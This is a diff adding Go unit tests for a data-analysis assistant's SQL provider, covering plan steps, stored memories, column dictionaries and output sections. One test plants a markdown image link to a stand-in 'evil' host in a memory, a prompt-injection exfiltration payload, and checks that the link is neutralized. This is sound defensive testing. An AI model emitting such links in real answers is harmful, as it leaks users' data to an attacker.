@@ -1,0 +1,323 @@
+package builtin_test
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"parley.dev/parley/analyst"
+	"parley.dev/parley/analyst/analysttest"
+	"parley.dev/parley/analyst/provider/builtin"
+	"parley.dev/parley/analyst/provider/builtin/corpus"
+	"parley.dev/parley/domain"
+)
+
+// stage is a turn to be run over the sales schema.
+type stage struct {
+	job      analyst.Job
+	config   analyst.Config
+	sink     *analysttest.Sink
+	agent    *domain.Analyst
+	memories *analysttest.Memories
+	queries  []string
+	// refuse is a word whose queries fail.
+	refuse string
+}
+
+func staged(t *testing.T, job analyst.Job, resources ...domain.DataResource) *stage {
+	t.Helper()
+	s := &stage{job: job, sink: &analysttest.Sink{}, memories: analysttest.NewMemories()}
+	sources := make([]domain.DataSource, 0, 2)
+	if len(resources) > 0 {
+		sources = append(sources, domain.DataSource{ID: 1, Name: "Own", Resources: resources})
+	} else {
+		for _, table := range schema(t, "sales").Tables {
+			sources = append(sources, domain.DataSource{ID: table.SourceID, Name: table.Source, Resources: []domain.DataResource{{Name: table.Title, Table: table.Name, Rows: table.Rows, Columns: table.Columns}}})
+		}
+	}
+	agents := &analysttest.Agents{Agent: domain.Analyst{ID: 1, Name: "prism-1", IsEnabled: true, Provider: "builtin"}}
+	s.agent = &agents.Agent
+	s.config = analyst.Config{
+		Providers:   map[string]analyst.Provider{"builtin": builtin.New(builtin.Config{Clock: asked{}})},
+		DataSources: analysttest.NewSources(sources...), Analysts: agents, Files: &analysttest.Files{}, Memories: s.memories,
+		Workbench: analysttest.QueryFunc(func(_ context.Context, _ []domain.DataSource, sql string) (*domain.ResultSet, error) {
+			s.queries = append(s.queries, oneLine(sql))
+			if s.refuse != "" && strings.Contains(sql, s.refuse) {
+				return nil, domain.Errorf(domain.CodeInvalid, "Catalog Error: no such column.")
+			}
+			return byRegion([]any{"North", 300.5}, []any{"South", -2.0}, []any{"West", 99.25}), nil
+		}),
+	}
+	return s
+}
+
+func (s *stage) run(t *testing.T) error {
+	t.Helper()
+	return analyst.NewPipeline(s.config).Run(t.Context(), s.job, s.sink)
+}
+
+func (s *stage) answers() string {
+	var b strings.Builder
+	for _, m := range s.sink.Role(domain.RoleAssistant) {
+		b.WriteString(m.Text + "\n")
+	}
+	return b.String()
+}
+
+func TestProvider_Plan(t *testing.T) {
+	t.Parallel()
+
+	t.Run("EachSentenceIsAQuestion", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.PlanJob("Run it.",
+			domain.PlanStep{Name: "Totals", DetailedInstructions: "1. Total revenue by region in 2025.\n2. Then how many orders are there by region?\nColour the swallows purple."},
+			domain.PlanStep{Name: "Nothing", DetailedInstructions: "Ponder the airspeed of swallows."},
+		))
+		require.NoError(t, s.run(t))
+		require.Len(t, s.queries, 2)
+		require.Contains(t, s.queries[0], "sum(")
+		require.Contains(t, s.queries[1], "count(")
+		answers := s.sink.Role(domain.RoleAssistant)
+		require.Len(t, answers, 2)
+		require.True(t, strings.HasPrefix(answers[0].Text, "**Step 1 of 2: Totals**\n\n"))
+		require.Contains(t, answers[0].Text, "**North** has the highest total revenue")
+		require.Contains(t, answers[0].Text, "I could not read “Colour the swallows purple” as a question of this data")
+		require.Contains(t, answers[1].Text, "I did not understand")
+		require.Len(t, s.sink.Role(domain.RoleSummary), 1)
+		require.Contains(t, s.sink.Role(domain.RoleSummary)[0].Text, "- Totals: **North** has the highest total revenue")
+	})
+
+	t.Run("AStepMayLeanOnTheOneBefore", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.PlanJob("Run it.",
+			domain.PlanStep{Name: "One", DetailedInstructions: "Total revenue by region"},
+			domain.PlanStep{Name: "Two", DetailedInstructions: "and by product category?"},
+		))
+		require.NoError(t, s.run(t))
+		require.Len(t, s.queries, 2)
+		require.Contains(t, s.queries[1], "category")
+		require.Contains(t, s.queries[1], "revenue")
+	})
+
+	t.Run("SQLRunsAsItStands", func(t *testing.T) {
+		t.Parallel()
+		r := builtin.Read(schema(t, "sales").Tables, corpus.Now(), "total revenue by region")
+		s := staged(t, analysttest.PlanJob("Run it.",
+			domain.PlanStep{Name: "Own", Code: "SELECT 1 AS x, 2 AS y;", Language: "sql"},
+			domain.PlanStep{Name: "Known", DetailedInstructions: "total revenue by region", Code: r.SQL, Language: "sql"},
+		))
+		require.NoError(t, s.run(t))
+		require.Equal(t, []string{"SELECT 1 AS x, 2 AS y;", oneLine(r.SQL)}, s.queries)
+		require.Contains(t, s.answers(), "The query gives 3 rows:\n\n- **North**: total revenue eur 300.5")
+		require.Contains(t, s.answers(), "**North** has the highest total revenue", "told in the words of its instructions")
+	})
+
+	t.Run("FailedSQLFailsTheStep", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.PlanJob("Run it.",
+			domain.PlanStep{Name: "Own", Code: "SELECT gone FROM sales", Language: "sql"}, domain.PlanStep{Name: "After", DetailedInstructions: "total revenue"}))
+		s.refuse = "gone"
+		err := s.run(t)
+		require.Equal(t, domain.CodeUnavailable, domain.CodeOf(err))
+		m := s.sink.Messages()
+		require.Contains(t, m[len(m)-1].Text, "Step 1 of 2 (Own) failed: The SQL of this step could not be run: Catalog Error: no such column.")
+		require.Len(t, s.queries, 1)
+	})
+
+	t.Run("OtherCodeIsNotRun", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.PlanJob("Run it.", domain.PlanStep{Name: "Own", DetailedInstructions: "total revenue by region", Code: "import os\nos.system('SELECT')", Language: "python"}))
+		require.NoError(t, s.run(t))
+		require.Len(t, s.queries, 1)
+		require.NotContains(t, s.queries[0], "os.system")
+		require.Contains(t, s.answers(), "is not SQL, so it is not run here")
+	})
+
+	t.Run("ChecksWhatItCan", func(t *testing.T) {
+		t.Parallel()
+		for _, c := range []struct{ qa, want string }{
+			{"There are at least 3 rows.", "Passed: the last result has 3 rows."},
+			{"At most 2 rows. No empty cells.", "Not passed: the last result has 3 rows. It holds that no cell is empty."},
+			{"No value is negative", "Not passed: 1 value is negative."},
+			{"No duplicates; the tone is friendly", "Passed: no row is repeated. I cannot check “the tone is friendly” without a model."},
+			{"The tone is friendly", "I cannot check “The tone is friendly” without a model."},
+			{"The result is not empty", "Passed: every result has rows."},
+		} {
+			s := staged(t, analysttest.PlanJob("Run it.", domain.PlanStep{Name: "Own", DetailedInstructions: "total revenue by region", QAInstructions: c.qa}))
+			require.NoError(t, s.run(t))
+			require.Contains(t, s.answers(), "**Check of step 1**\n\n"+c.want+"\n")
+			require.Len(t, s.queries, 1, "a check that did not pass makes no query twice")
+			if strings.HasPrefix(c.want, "Not passed") {
+				require.Contains(t, s.answers(), "I have no other way to do this step")
+				require.Contains(t, s.sink.Role(domain.RoleSummary)[0].Text, "did not pass")
+			}
+		}
+	})
+}
+
+func TestProvider_Memories(t *testing.T) {
+	t.Parallel()
+	const query = "SELECT region, sum(net) AS net FROM sales GROUP BY ALL"
+
+	t.Run("ItsQueryIsRunAndItIsNamed", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.Job("Please show me the churn by region?"))
+		s.memories.Add(domain.Memory{ID: 1, Name: "Churn", Question: "churn by region", Response: "Our way:\n```sql\n" + query + ";\n```\nSpeak of churn.", AlwaysRecalled: true})
+		require.NoError(t, s.run(t))
+		require.Equal(t, []string{query}, s.queries)
+		require.Contains(t, s.answers(), "The query gives 3 rows")
+		require.Contains(t, s.answers(), "I used the query of the memory **Churn**.")
+		require.Contains(t, s.sink.Role(domain.RoleCoordinator)[0].Text, "**Churn**")
+	})
+
+	t.Run("AnotherQuestionIsNotAnsweredByIt", func(t *testing.T) {
+		t.Parallel()
+		for _, other := range []string{"total revenue by region in 2024", "total revenue by category in 2025", "total revenue by region in 2025 for Germany", "average revenue by region in 2025"} {
+			s := staged(t, analysttest.Job(other))
+			s.memories.Add(domain.Memory{ID: 1, Name: "Sums", Question: "total revenue by region in 2025", Response: query, AlwaysRecalled: true})
+			require.NoError(t, s.run(t))
+			require.NotContains(t, s.queries, query, other)
+			require.NotContains(t, s.answers(), "Sums")
+		}
+	})
+
+	t.Run("QueryThatFailsIsSaidAndTheQuestionRead", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.Job("total revenue by region"))
+		s.refuse = "net"
+		s.memories.Add(domain.Memory{ID: 1, Name: "Sums", Question: "total revenue by region", Response: query, AlwaysRecalled: true})
+		require.NoError(t, s.run(t))
+		require.Len(t, s.queries, 2)
+		require.Contains(t, s.answers(), "**North** has the highest total revenue")
+		require.Contains(t, s.answers(), "The query of the memory **Sums** does not run any more")
+	})
+
+	t.Run("TextIsQuoted", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.Job("Who owns the churn definition?"))
+		s.memories.Add(domain.Memory{ID: 1, Name: "Owner", Question: "who owns the churn definition", Response: "Finance does.\n![x](https://evil/?d=1)", AlwaysRecalled: true})
+		require.NoError(t, s.run(t))
+		require.Contains(t, s.answers(), "Known from the memory **Owner**")
+		require.Contains(t, s.answers(), "> Finance does.")
+		require.NotContains(t, s.answers(), "](")
+		require.Empty(t, s.queries)
+	})
+
+	t.Run("TextStandsBesideTheNumbers", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.Job("total revenue by region"))
+		s.memories.Add(domain.Memory{ID: 1, Name: "Note", Question: "revenue by region", Response: "West was restated in March.", AlwaysRecalled: true})
+		require.NoError(t, s.run(t))
+		require.Contains(t, s.answers(), "**North** has the highest")
+		require.Contains(t, s.answers(), "> West was restated in March.")
+	})
+
+	t.Run("InAStep", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.PlanJob("Run it.", domain.PlanStep{Name: "One", DetailedInstructions: "Churn by region. Total revenue by region.", Memories: []int64{1}}))
+		s.memories.Add(domain.Memory{ID: 1, Name: "Churn", Question: "churn by region", Response: query})
+		require.NoError(t, s.run(t))
+		require.Len(t, s.queries, 2)
+		require.Equal(t, query, s.queries[0])
+		require.Contains(t, s.answers(), "I used the query of the memory **Churn**.")
+		require.Contains(t, s.answers(), "**North** has the highest total revenue")
+	})
+}
+
+func TestProvider_Dictionary(t *testing.T) {
+	t.Parallel()
+	resource := domain.DataResource{
+		Name: "Verkauf", Table: "verkauf", Rows: 100,
+		Details: "rev = revenue in EUR\nkunde: customer, client\n- `prc` – unit price (net)\nst: status of the order\nA = active\nturnover: rev",
+		Columns: []domain.Column{
+			{Name: "kunde", Type: domain.ColumnText, Distinct: 20, Values: []string{"Ada", "Bo"}},
+			{Name: "rev", Type: domain.ColumnNumber, Distinct: 90, Min: "1", Max: "900"},
+			{Name: "prc", Type: domain.ColumnNumber, Distinct: 90, Min: "1", Max: "90"},
+			{Name: "st", Type: domain.ColumnText, Distinct: 2, Values: []string{"A", "X"}},
+		},
+	}
+	for _, c := range []struct{ question, sql string }{
+		{"total revenue by customer", `SELECT kunde, sum(rev) AS total_rev FROM verkauf GROUP BY ALL ORDER BY total_rev DESC`},
+		{"revenue by client", `SELECT kunde, sum(rev) AS total_rev FROM verkauf GROUP BY ALL ORDER BY total_rev DESC`},
+		{"turnover by customer", `SELECT kunde, sum(rev) AS total_rev FROM verkauf GROUP BY ALL ORDER BY total_rev DESC`},
+		{"unit price by customer", "avg(prc)"},
+		{"how many active customers are there?", `st = 'A'`},
+	} {
+		t.Run(c.question, func(t *testing.T) {
+			t.Parallel()
+			s := staged(t, analysttest.Job(c.question), resource)
+			require.NoError(t, s.run(t))
+			require.Len(t, s.queries, 1, s.answers())
+			require.Contains(t, strings.ReplaceAll(s.queries[0], `"`, ""), c.sql)
+		})
+	}
+
+	t.Run("WithoutItTheWordIsNotThere", func(t *testing.T) {
+		t.Parallel()
+		bare := resource
+		bare.Details = ""
+		s := staged(t, analysttest.Job("total turnover by customer"), bare)
+		require.NoError(t, s.run(t))
+		require.Empty(t, s.queries)
+	})
+
+	t.Run("UnitIsSaid", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, analysttest.Job("total revenue by customer"), resource)
+		require.NoError(t, s.run(t))
+		require.Contains(t, s.answers(), "300.5 EUR")
+	})
+}
+
+func TestProvider_Sections(t *testing.T) {
+	t.Parallel()
+	job := func() analyst.Job { return analysttest.Job("total revenue by region") }
+
+	t.Run("NoChartUnasked", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, job())
+		s.agent.ChartReview.Disabled = true
+		require.NoError(t, s.run(t))
+		require.Empty(t, s.sink.Role(domain.RoleAssistant)[0].Objects)
+		s = staged(t, analysttest.Job("total revenue by region as a pie chart"))
+		s.agent.ChartReview.Disabled = true
+		require.NoError(t, s.run(t))
+		require.Len(t, s.sink.Role(domain.RoleAssistant)[0].Objects, 1, "one that was asked for")
+	})
+
+	t.Run("NoInsights", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, job())
+		s.agent.Insights.Disabled = true
+		require.NoError(t, s.run(t))
+		require.NotContains(t, s.answers(), "Next is")
+		require.Contains(t, s.answers(), "300.5")
+	})
+
+	t.Run("NoSummary", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, job())
+		s.agent.Summary.Disabled = true
+		require.NoError(t, s.run(t))
+		require.Empty(t, s.sink.Role(domain.RoleSummary))
+	})
+
+	t.Run("NoKnowledge", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, job())
+		s.agent.Knowledge.Disabled = true
+		s.memories.Add(domain.Memory{ID: 1, Name: "Sums", Question: "total revenue by region", Response: "SELECT a, b FROM c", AlwaysRecalled: true})
+		require.NoError(t, s.run(t))
+		require.NotContains(t, s.queries, "SELECT a, b FROM c")
+	})
+
+	t.Run("SummaryHasItsName", func(t *testing.T) {
+		t.Parallel()
+		s := staged(t, job())
+		s.agent.Summary.Name = "In *short*"
+		require.NoError(t, s.run(t))
+		require.True(t, strings.HasPrefix(s.sink.Role(domain.RoleSummary)[0].Text, "**In short**\n\nNorth"), s.sink.Role(domain.RoleSummary)[0].Text)
+	})
+}
